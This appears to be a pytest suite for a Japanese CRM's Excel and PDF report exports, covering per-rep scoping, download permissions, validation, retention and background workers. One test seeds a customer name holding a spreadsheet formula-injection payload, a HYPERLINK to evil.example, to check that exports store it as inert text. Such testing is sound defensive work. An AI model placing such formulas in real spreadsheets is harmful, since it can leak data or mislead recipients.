"""Excel and PDF reports (app/services/reports.py, app/pdf.py, /api/reports/<kind>, the Reports screen).

Every report's file is read back: Excel with openpyxl (typed cells, ¥ formats, frozen header,
autofilter, the formula guard), PDF with Debian's `pdftotext` (the Japanese names). Scope:
a Sales rep's report holds their rows only; downloads are the asker's (and Admins').
"""

import io
import os
import shutil
import subprocess
import uuid
from datetime import datetime, timedelta
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tests.helpers import unique_tag

PDFTOTEXT = shutil.which("pdftotext")


def pdf_text(data):
    """The text of a PDF as `pdftotext` reads it (poppler-utils; `make test` installs it), in content order.

    A long name wraps inside its table cell; the lines of one cell follow each other in
    content order (`-raw`), so the text is also compared with the line breaks taken out.
    """
    assert PDFTOTEXT, "pdftotext is missing: `make test` installs poppler-utils (apt-get install poppler-utils)"
    out = subprocess.run([PDFTOTEXT, "-raw", "-", "-"], input=data, capture_output=True, check=True)
    return PdfText(out.stdout.decode("utf-8"))


class PdfText(str):
    """pdftotext's text; `word in text` also matches a word wrapped over lines of one cell."""

    def __contains__(self, word):
        return str.__contains__(self, word) or str.__contains__(self.replace("\n", ""), word)


def ask(client, headers, kind, fmt="xlsx", **params):
    """POST /api/reports/<kind>; return the response."""
    return client.post(f"/api/reports/{kind}", json={"format": fmt, "params": params}, headers=headers)


def built(app, client, headers, kind, fmt="xlsx", **params):
    """Ask for a report, wait for its build thread, return (run answer, file bytes)."""
    from app.services import reports

    resp = ask(client, headers, kind, fmt, **params)
    assert resp.status_code == 202, resp.get_data(as_text=True)
    run_id = resp.json["id"]
    assert resp.json["data"]["status"] in ("QUEUED", "RUNNING", "DONE")
    reports.wait(run_id, 120)
    status = client.get(f"/api/reports/{kind}/{run_id}", headers=headers)
    assert status.status_code == 200
    data = status.json["data"]
    assert data["status"] == "DONE", data
    assert data["progress"] == 100
    got = client.get(data["downloadUrl"], headers=headers)
    assert got.status_code == 200, got.get_data(as_text=True)[:300]
    assert got.headers["Cache-Control"] == "no-store"
    return data, got.data


def sheet_rows(data):
    """(worksheet, [row values]) of the first sheet of an .xlsx."""
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    return book, sheet, [[c.value for c in row] for row in sheet.iter_rows()]


# --- the customer list ------------------------------------------------------------------


def test_customer_report_excel_is_typed_guarded_and_scoped(app, client, auth, make, users):
    tag = unique_tag("顧客")
    mine = make.customer("sales", name=f"株式会社{tag}桜", industry="製造", risk_tolerance=7)
    evil = make.customer("sales", name=f'=HYPERLINK("http://evil.example/?{tag}","x")', industry="製造")
    theirs = make.customer("sales2", name=f"株式会社{tag}富士")
    run, data = built(app, client, auth("sales"), "customers", q=tag)
    assert run["rowsTotal"] == 2 and run["rowsDone"] == 2
    book, sheet, rows = sheet_rows(data)
    assert rows[0][:3] == ["顧客名", "メール", "電話番号"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:J3"
    names = [r[0] for r in rows[1:]]
    assert f"株式会社{tag}桜" in names
    assert theirs.name not in names  # another rep's customer is not in a Sales rep's report
    # The formula guard: stored as text starting with ', never as a formula.
    guarded = next(r for r in rows[1:] if tag in r[0] and "HYPERLINK" in r[0])
    assert guarded[0] == "'" + evil.name
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    row = next(r for r in rows[1:] if r[0] == mine.name)
    assert row[6] == 7 and isinstance(row[6], int)
    assert isinstance(row[8], datetime)  # registered at: a typed date-time cell
    assert "条件" in book.sheetnames
    about = {r[0].value: r[1].value for r in book["条件"].iter_rows()}
    assert about["q"] == tag and about["レポート"] == "顧客一覧"


def test_customer_report_of_a_manager_holds_every_rep_and_filters(app, client, auth, make):
    tag = unique_tag("フィルタ")
    make.customer("sales", name=f"{tag}一", industry="金融")
    make.customer("sales2", name=f"{tag}二", industry="金融")
    make.customer("sales2", name=f"{tag}三", industry="小売")
    _, data = built(app, client, auth("manager"), "customers", q=tag, industry="金融")
    _, _, rows = sheet_rows(data)
    assert sorted(r[0] for r in rows[1:]) == [f"{tag}一", f"{tag}二"]


def test_customer_report_pdf_has_the_japanese_names(app, client, auth, make):
    tag = unique_tag("ピーディーエフ")
    one = make.customer("sales", name=f"株式会社{tag}サクラ商事")
    two = make.customer("sales2", name=f"有限会社{tag}富士物産")
    run, data = built(app, client, auth("manager"), "customers", "pdf", q=tag)
    assert data.startswith(b"%PDF")
    text = pdf_text(data)
    assert "顧客一覧" in text
    assert one.name in text and two.name in text


def test_pdf_module_renders_japanese_with_the_ttf_and_the_builtin_cid_font(app):
    from app.pdf import CID_FONT, Document, yen

    for font_path in (app.config["PDF_FONT_PATH"], "/nonexistent/font.ttf"):
        doc = Document("証拠資料パック", subtitle="作成者 山田 太郎", font_path=font_path)
        doc.heading("申請内容").key_values([("顧客", "株式会社みずほ<b>テスト</b>"), ("金額", yen(Decimal("12345678")))])
        assert doc.table(["項目", "値"], [["承認者", "佐藤 花子"]], numeric={1}) == 1
        doc.paragraph("コメント:\n問題ありません")
        text = pdf_text(doc.to_bytes())
        for word in ("証拠資料パック", "株式会社みずほ<b>テスト</b>", "¥12,345,678", "佐藤 花子", "問題ありません"):
            assert word in text, (font_path, word, text)
        if font_path == "/nonexistent/font.ttf":
            assert doc.font == CID_FONT


# --- the approval register --------------------------------------------------------------


def test_approval_register_lists_steps_deciders_comments_and_times(app, client, auth, make, users, db):
    from app.services.approvals import approve

    tag = unique_tag("台帳")
    customer = make.customer("sales", name=f"株式会社{tag}", investment_profile="moderate", risk_tolerance=5)
    req = make.approval("sales", customer=customer, product_name=f"{tag}ファンド", amount=2_500_000, comment="ご検討中")
    approve(req.id, users["manager"], comment="確認済み")
    db.session.commit()
    other = make.approval("sales2", product_name=f"{tag}他社", amount=1_000_000)

    _, data = built(app, client, auth("manager"), "approvals", customerId=customer.id)
    book, sheet, rows = sheet_rows(data)
    header, body = rows[0], rows[1:]
    assert header[:6] == ["申請日時", "顧客名", "商品名", "リスク", "金額", "状態"]
    assert len(body) >= 1 and all(r[1] == customer.name for r in body)
    step = next(r for r in body if r[9] == 1)
    assert step[2] == f"{tag}ファンド" and step[4] == 2_500_000 and step[5] == "承認" and step[7] == "ご検討中"
    assert step[10] == "マネージャー" and step[11] == "Manager User" and step[12] == "承認" and step[13] == "確認済み"
    assert isinstance(step[0], datetime) and isinstance(step[14], datetime)
    amount_cell = sheet.cell(row=body.index(step) + 2, column=5)
    assert "¥" in amount_cell.number_format and amount_cell.data_type == "n"

    # A Sales rep's register holds their own requests only.
    _, data = built(app, client, auth("sales2"), "approvals")
    _, _, rows = sheet_rows(data)
    products = {r[2] for r in rows[1:]}
    assert f"{tag}他社" in products and f"{tag}ファンド" not in products
    assert other.requester_id == users["sales2"].id

    run, data = built(app, client, auth("manager"), "approvals", "pdf", customerId=customer.id)
    text = pdf_text(data)
    assert "承認台帳" in text and customer.name in text and "確認済み" in text and "¥2,500,000" in text


# --- the monthly activity per rep -------------------------------------------------------


def test_monthly_activity_counts_per_rep_and_a_sales_rep_sees_only_their_row(app, client, auth, make, users, db):
    from app.services.approvals import approve
    from models.task import TaskStatus

    month = "2031-03"  # a month no other test writes into
    at = datetime(2031, 3, 10, 3, 0).astimezone()
    customer = make.customer("sales", investment_profile="moderate", risk_tolerance=5)
    make.meeting("sales", customer=customer, scheduled_at=at)
    make.meeting("sales", customer=customer, scheduled_at=at + timedelta(days=1))
    make.meeting("sales2", scheduled_at=at)
    done = make.task("sales", due_date=at)
    done.status, done.completed_at = TaskStatus.COMPLETED, at
    db.session.commit()
    _, data = built(app, client, auth("sales"), "activity", month=month)
    _, _, rows = sheet_rows(data)
    assert rows[0][:3] == ["担当者", "メール", "商談"]
    assert [r[1] for r in rows[1:-1]] == [users["sales"].email]  # only their own row, then the total
    assert rows[1][2] == 2 and rows[1][5] == 1
    assert rows[-1][0] == "合計" and rows[-1][2] == 2

    _, data = built(app, client, auth("manager"), "activity", month=month)
    book, sheet, rows = sheet_rows(data)
    emails = {r[1]: r for r in rows[1:-1]}
    assert users["sales"].email in emails and users["sales2"].email in emails
    assert emails[users["sales2"].email][2] == 1
    assert "¥" in sheet.cell(row=2, column=10).number_format

    # This month's requests and amounts (requests cannot be dated in the future).
    req = make.approval("sales", customer=customer, amount=3_000_000)
    approve(req.id, users["manager"], comment="ok")
    db.session.commit()
    _, data = built(app, client, auth("sales"), "activity")
    _, _, rows = sheet_rows(data)
    mine = rows[1]
    assert mine[1] == users["sales"].email and mine[7] >= 1 and mine[8] >= 1 and mine[10] >= 3_000_000

    _, data = built(app, client, auth("manager"), "activity", "pdf", month=month)
    text = pdf_text(data)
    assert "月次活動レポート" in text and users["sales2"].email in text


# --- the overdue tasks --------------------------------------------------------------------


def test_overdue_list_is_scoped_and_counts_days(app, client, auth, make, users):
    from models.base import utcnow

    tag = unique_tag("期限")
    customer = make.customer("sales", name=f"株式会社{tag}")
    make.task("sales", customer=customer, title=f"{tag}自分", due_date=utcnow() - timedelta(days=3, hours=1))
    make.task("sales", title=f"{tag}未来", due_date=utcnow() + timedelta(days=3))
    make.task("sales2", title=f"{tag}他人", due_date=utcnow() - timedelta(days=1, hours=1))
    _, data = built(app, client, auth("sales"), "overdue")
    _, sheet, rows = sheet_rows(data)
    titles = {r[0]: r for r in rows[1:]}
    assert f"{tag}自分" in titles and f"{tag}未来" not in titles and f"{tag}他人" not in titles
    row = titles[f"{tag}自分"]
    assert row[1] == customer.name and row[4] == 3 and isinstance(row[3], datetime)

    _, data = built(app, client, auth("manager"), "overdue", "pdf", userId=users["sales2"].id)
    text = pdf_text(data)
    assert f"{tag}他人" in text and f"{tag}自分" not in text


# --- who may download, the bell, bad input, retention ----------------------------------


def test_only_the_asker_and_admins_download(app, client, auth, make, browser_login):
    tag = unique_tag("権限")
    make.customer("sales", name=f"{tag}社")
    run, _ = built(app, client, auth("sales"), "customers", q=tag)
    url, status_url = run["downloadUrl"], f"/api/reports/customers/{run['id']}"
    for other in ("sales2", "manager", "compliance"):
        assert client.get(url, headers=auth(other)).status_code == 404
        assert client.get(status_url, headers=auth(other)).status_code == 404
    assert client.get(url, headers=auth("admin")).status_code == 200
    assert client.get(url.replace("/customers/", "/overdue/"), headers=auth("sales")).status_code == 404
    screen = f"/reports/download/{run['id']}"
    assert browser_login("sales2").get(screen).status_code == 404
    got = browser_login("sales").get(screen)
    assert got.status_code == 200 and got.data[:2] == b"PK"
    mine = client.get("/api/reports/runs", headers=auth("sales2")).json["data"]
    assert run["id"] not in {r["id"] for r in mine}


def test_the_bell_says_when_the_report_is_ready_and_the_request_is_audited(app, client, auth, make, users, db):
    from models.audit import AuditAction, AuditLog
    from models.notification import Notification

    tag = unique_tag("ベル")
    make.customer("sales", name=f"{tag}社")
    run, _ = built(app, client, auth("sales"), "customers", q=tag)
    note = db.session.query(Notification).filter_by(user_id=users["sales"].id, link=f"/reports/download/{run['id']}").one()
    assert "レポートの準備ができました" in note.title and not note.is_read
    audit = db.session.query(AuditLog).filter_by(resource_type="report_run", resource_id=run["id"],
                                                 action=AuditAction.CREATE).one()
    assert audit.user_id == users["sales"].id
    assert audit.changes["after"]["kind"] == "customers" and audit.changes["after"]["params"]["q"] == tag


@pytest.mark.parametrize("kind,body,field", [
    ("activity", {"format": "xlsx", "params": {"month": "2026-13"}}, "month"),
    ("activity", {"format": "xlsx", "params": {"salesId": "abc"}}, "salesId"),
    ("customers", {"format": "docx", "params": {}}, "format"),
    ("customers", {"format": "xlsx", "params": {"createdFrom": "yesterday"}}, "createdFrom"),
    ("customers", {"format": "xlsx", "params": {"createdFrom": "2026-02-01", "createdTo": "2026-01-01"}}, "createdTo"),
    ("customers", {"format": "xlsx", "params": {"size": "HUGE"}}, "size"),
    ("customers", {"format": "xlsx", "params": {"colour": "red"}}, "colour"),
    ("customers", {"format": "xlsx", "params": ["q"]}, "params"),
    ("approvals", {"format": "xlsx", "params": {"status": "MAYBE"}}, "status"),
    ("overdue", {"format": "xlsx", "params": {"priority": "SOMEDAY"}}, "priority"),
    ("overdue", {"format": "xlsx", "extra": 1}, "extra"),
])
def test_bad_parameters_answer_400_naming_the_field_and_store_nothing(app, client, auth, users, db, kind, body, field):
    from models.report import ReportRun

    before = db.session.query(ReportRun).filter_by(user_id=users["manager"].id).count()
    resp = client.post(f"/api/reports/{kind}", json=body, headers=auth("manager"))
    assert resp.status_code == 400, resp.get_data(as_text=True)
    assert field in resp.json["details"], resp.json
    db.session.rollback()
    assert db.session.query(ReportRun).filter_by(user_id=users["manager"].id).count() == before


def test_unknown_report_is_404_and_a_pdf_past_its_row_limit_is_400(app, client, auth, make, monkeypatch):
    assert ask(client, auth("manager"), "everything").status_code == 404
    assert client.post("/api/reports/customers", json={}).status_code == 401
    tag = unique_tag("上限")
    for _ in range(3):
        make.customer("sales", name=f"{tag}社")
    monkeypatch.setitem(app.config, "REPORT_PDF_MAX_ROWS", 2)
    resp = ask(client, auth("manager"), "customers", "pdf", q=tag)
    assert resp.status_code == 400 and "format" in resp.json["details"]
    # Excel streams any length.
    assert ask(client, auth("manager"), "customers", "xlsx", q=tag).status_code == 202


def test_retention_sweep_deletes_expired_files(app, client, auth, make, users, db):
    from app.services import reports
    from models.base import utcnow
    from models.report import ReportRun, ReportStatus

    tag = unique_tag("保存")
    make.customer("sales", name=f"{tag}社")
    run, _ = built(app, client, auth("sales"), "customers", q=tag)
    row = db.session.get(ReportRun, run["id"])
    path = os.path.join(app.config["REPORTS_DIR"], row.file_path)
    assert os.path.isfile(path)
    assert row.expires_at - row.created_at == timedelta(days=app.config["REPORT_RETENTION_DAYS"])
    kept = make.customer("sales", name=f"{tag}残")
    run2, _ = built(app, client, auth("sales"), "customers", q=kept.name)
    row.expires_at = utcnow() - timedelta(seconds=1)
    db.session.commit()
    result = app.test_cli_runner().invoke(args=["crm", "reports-sweep"])
    assert result.exit_code == 0 and "Expired reports removed" in result.output
    db.session.expire_all()
    row = db.session.get(ReportRun, run["id"])
    assert row.status == ReportStatus.EXPIRED and row.file_path is None and not os.path.exists(path)
    assert client.get(run["downloadUrl"], headers=auth("sales")).status_code == 404
    assert db.session.get(ReportRun, run2["id"]).status == ReportStatus.DONE  # not yet expired: kept
    assert reports.sweep_expired(db.session) == 0


def test_built_by_the_rq_job_on_the_worker_queue(app, client, auth, make, monkeypatch, redis_url):
    """REPORT_RUNNER=rq: the request enqueues workers.reports.report_job by name; an RQ worker builds it."""
    import redis
    from rq import Queue, SimpleWorker

    from workers import runtime

    name = f"crm_test_reports_{uuid.uuid4().hex[:8]}"  # a queue of this test's own: no other run's jobs
    monkeypatch.setitem(app.config, "REPORT_RUNNER", "rq")
    monkeypatch.setitem(app.config, "RQ_QUEUE", name)
    tag = unique_tag("ワーカー")
    make.customer("sales", name=f"{tag}社")
    resp = ask(client, auth("sales"), "customers", q=tag)
    assert resp.status_code == 202
    run_id = resp.json["id"]
    conn = redis.Redis.from_url(redis_url)
    queue = Queue(name, connection=conn)
    try:
        jobs = queue.get_jobs()
        assert [j.func_name for j in jobs] == ["workers.reports.report_job"] and jobs[0].args == (run_id,)
        assert client.get(f"/api/reports/customers/{run_id}", headers=auth("sales")).json["data"]["status"] == "QUEUED"
        previous = runtime._state.copy()
        runtime.set_app(app)
        try:
            SimpleWorker([queue], connection=conn).work(burst=True)
        finally:
            runtime._state.update(previous)
        data = client.get(f"/api/reports/customers/{run_id}", headers=auth("sales")).json["data"]
        assert data["status"] == "DONE", data
        got = client.get(data["downloadUrl"], headers=auth("sales"))
        _, _, rows = sheet_rows(got.data)
        assert [r[0] for r in rows[1:]] == [f"{tag}社"]
    finally:
        queue.empty()
        queue.delete(delete_jobs=True)


# --- the screen ------------------------------------------------------------------------------


def test_reports_screen_requests_lists_and_refuses_bad_input(app, make, browser_login):
    from app.services import reports

    tag = unique_tag("画面")
    make.customer("sales", name=f"{tag}社")
    c = browser_login("sales")
    page = c.get("/reports/")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    for kind in ("customers", "approvals", "activity", "overdue"):
        assert f'data-kind="{kind}"' in html
    # No CSRF token: refused, nothing stored.
    assert c.post("/reports/request", data={"kind": "customers", "format": "xlsx"}, csrf=False).status_code == 400
    bad = c.post("/reports/request", data={"kind": "activity", "format": "xlsx", "month": "2026-13"})
    assert bad.status_code == 400 and 'data-field="month"' in bad.get_data(as_text=True)
    resp = c.post("/reports/request", data={"kind": "customers", "format": "xlsx", "q": tag})
    assert resp.status_code == 302
    run_id = resp.headers["Location"].rsplit("#run-", 1)[1]
    reports.wait(run_id, 120)
    status = c.get("/reports/status").json["data"]
    mine = next(r for r in status if r["id"] == run_id)
    assert mine["status"] == "DONE" and mine["downloadUrl"] == f"/reports/download/{run_id}"
    listing = c.get("/reports/").get_data(as_text=True)
    assert f'data-id="{run_id}" data-status="DONE"' in listing and f"/reports/download/{run_id}" in listing
    got = c.get(f"/reports/download/{run_id}")
    _, _, rows = sheet_rows(got.data)
    assert [r[0] for r in rows[1:]] == [f"{tag}社"]


def test_a_build_that_lost_its_worker_or_its_job_is_marked_failed_by_the_sweep(app, users, db):
    from app.services import reports
    from models.base import utcnow
    from models.report import ReportRun, ReportStatus

    now = utcnow()
    started = now - timedelta(seconds=app.config["REPORT_JOB_TIMEOUT"] + 60)
    lost = ReportRun(user_id=users["sales"].id, kind="customers", format="xlsx", params={}, status=ReportStatus.RUNNING,
                     created_at=started, started_at=started, expires_at=now + timedelta(days=1))
    busy = ReportRun(user_id=users["sales"].id, kind="customers", format="xlsx", params={}, status=ReportStatus.RUNNING,
                     created_at=now, started_at=now, expires_at=now + timedelta(days=1))
    forgotten = ReportRun(user_id=users["sales"].id, kind="overdue", format="pdf", params={},
                          status=ReportStatus.QUEUED, created_at=started, expires_at=now + timedelta(days=1))
    db.session.add_all([lost, busy, forgotten])
    db.session.commit()
    folder = os.path.join(app.config["REPORTS_DIR"], str(users["sales"].id))
    os.makedirs(folder, exist_ok=True)
    part = os.path.join(folder, f"{lost.id}.xlsx.part")
    open(part, "wb").close()
    reports.sweep_expired(db.session)
    db.session.expire_all()
    assert db.session.get(ReportRun, lost.id).status == ReportStatus.FAILED
    assert db.session.get(ReportRun, lost.id).error == reports.INTERRUPTED and not os.path.exists(part)
    assert db.session.get(ReportRun, busy.id).status == ReportStatus.RUNNING
    assert db.session.get(ReportRun, forgotten.id).status == ReportStatus.FAILED
    # A run that is not QUEUED is never built (again): a re-delivered job leaves it alone.
    assert reports.build(lost.id) is None and db.session.get(ReportRun, lost.id).status == ReportStatus.FAILED


def test_a_sales_rep_naming_another_reps_id_gets_none_of_their_rows(app, client, auth, make, users):
    tag = unique_tag("他人")
    make.customer("sales", name=f"{tag}自社")
    make.customer("sales2", name=f"{tag}他社")
    _, data = built(app, client, auth("sales"), "customers", q=tag, assignedSalesId=users["sales2"].id)
    _, _, rows = sheet_rows(data)
    assert rows[1:] == []
    _, data = built(app, client, auth("sales"), "overdue", userId=users["sales2"].id)
    _, _, rows = sheet_rows(data)
    assert all(r[2] != "Sales2 User" for r in rows[1:])
    _, data = built(app, client, auth("sales"), "activity", salesId=users["sales2"].id)
    _, _, rows = sheet_rows(data)
    assert [r[0] for r in rows[1:]] == ["合計"] and rows[-1][2] == 0
